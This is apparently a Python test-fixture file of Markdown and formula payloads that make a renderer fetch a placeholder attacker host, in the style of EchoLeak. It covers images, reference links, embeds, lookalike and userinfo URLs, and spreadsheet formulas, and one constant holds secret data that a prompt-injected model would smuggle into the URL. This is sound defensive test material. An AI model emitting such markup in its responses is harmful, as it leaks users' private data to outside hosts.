"""Markdown that would fetch a foreign resource as soon as it is shown: EchoLeak and its relatives."""

# ruff: noqa: E501 - a shape stays in one piece

from __future__ import annotations

from tests.browser.safety.payloads.marks import HOME, HOST, LURE

SECRET = "q=%E5%B7%A5%E8%B5%84%20salary%2042"  # what an injected model would put there

SHAPES = {
    "image": f"![x]({LURE}?a)",
    "image-secret-in-query": f'![logo]({LURE}.png?{SECRET} "logo")',
    "image-secret-in-host": f"![x](http://c2FsYXJ5.{HOST}/x.gif)",
    "image-protocol-relative": f"![x]({HOME}?b)",
    "image-backslashes": f"![x](\\\\{HOST}\\leak) ![y](http:\\\\{HOST}\\leak) ![z](/\\{HOST}/leak)",
    "image-three-slashes": f"![x](http:///{HOST}/leak) ![y](http:{HOST}/leak)",
    "image-angles": f"![x](<{LURE}?with space>)",
    "image-reference": f"![x][ref]\n\n[ref]: {LURE}?c",
    "image-reference-collapsed": f"![ref][]\n\n[ref]: <{LURE}?d> 'title'",
    "image-reference-shortcut": f"![ref]\n\n[ref]:\n  {LURE}?e",
    "image-reference-first": f"[ref]: {LURE}?f\n\nfirst the definition ![x][ref]",
    "image-in-link": f"[![x]({LURE}?g)]({LURE}?h)",
    "image-in-table": f"| a |\n| --- |\n| ![x]({LURE}?i) |",
    "image-in-heading": f"# ![x]({LURE}?j)\n\n![y]({LURE}?k)\n---",
    "image-in-list": f"1. ![x]({LURE}?l)\n   - [ ] ![y]({LURE}?m)",
    "image-in-quote": f"> ![x]({LURE}?n)",
    "image-in-footnote": f"x[^a]\n\n[^a]: ![x]({LURE}?o)",
    "image-in-strong": f"**![x]({LURE}?p)** ~~![y]({LURE}?q)~~",
    "image-size-syntax": f"![x]({LURE}?r =100x100) ![y]({LURE}){{width=1}}",
    "image-obsidian": f"![[{LURE}?s]] [[{LURE}?t|x]]",
    "image-of-data-svg": f"![x](data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='{LURE}'/></svg>)",
    "image-of-a-script": f"![x]({LURE}.js) ![y]({LURE}.css) ![z]({LURE}.html)",
    "image-entity-scheme": f"![x](&#104;ttp:{HOME}) ![y](http&colon;{HOME})",
    "image-upper-scheme": f"![x](HTTP:{HOME}) ![y](hTTps:{HOME})",
    "image-teams-proxy": f"![x](https://eu-api.asm.skype.test/urlp/v1/url/content?url={LURE})",
    "link-bare": f"{LURE}?u and www.{HOST}/leak and http://user@{HOST}/leak",
    "link-autolink": f"<{LURE}?v> <mailto:leak@{HOST}> leak@{HOST}",
    "link-plain": f"[link]({LURE}?w) [other]({HOME}) [third](mailto:leak@{HOST}?subject=x)",
    "link-imitates-another-host": f"[https://bank.example/login]({LURE}?x)",
    "link-userinfo": f"[x](https://bank.example@{HOST}/leak) <https://bank.example:443@{HOST}>",
    "link-punycode": "[раура1.test](https://xn--80aa0cbo65f.test/leak) https://\u0430pple.test/",
    "link-credentials": f"[x](http://user:pass@{HOST}/) [y](ftp://user@{HOST}/) [z](//user@{HOST}/)",
    "link-with-target": f'[x]({LURE}?y "_self") <a href={LURE} target=_top rel=opener>y</a>',
    "link-prefetches": f"[x]({LURE}){{rel=prefetch}} <a rel='prefetch prerender preconnect' href={LURE}>x</a>",
    "embed-syntaxes": f"!video({LURE}) @[youtube]({LURE}) {{% embed {LURE} %}} ::: iframe {LURE} :::",
    "toc-and-include": f"!include {LURE} [[_TOC_]] {{{{{LURE}}}}} <<< {LURE}",
    "plantuml": f'```plantuml\n!include {LURE}\n```\n\n```vega\n{{"data":{{"url":"{LURE}"}}}}\n```',
    "math-includes": f"$\\includegraphics{{{LURE}}}$ $$\\href{{{LURE}}}{{x}}$$ \\input{{{LURE}}}",
    "citation-forgery": f"[1]: {LURE}\n\n[1] [1][] ![1][1] [2]({LURE})",
    "csv-formula": f'=HYPERLINK("{LURE}","x") =IMPORTXML("{LURE}","//a") @SUM(1)',
}
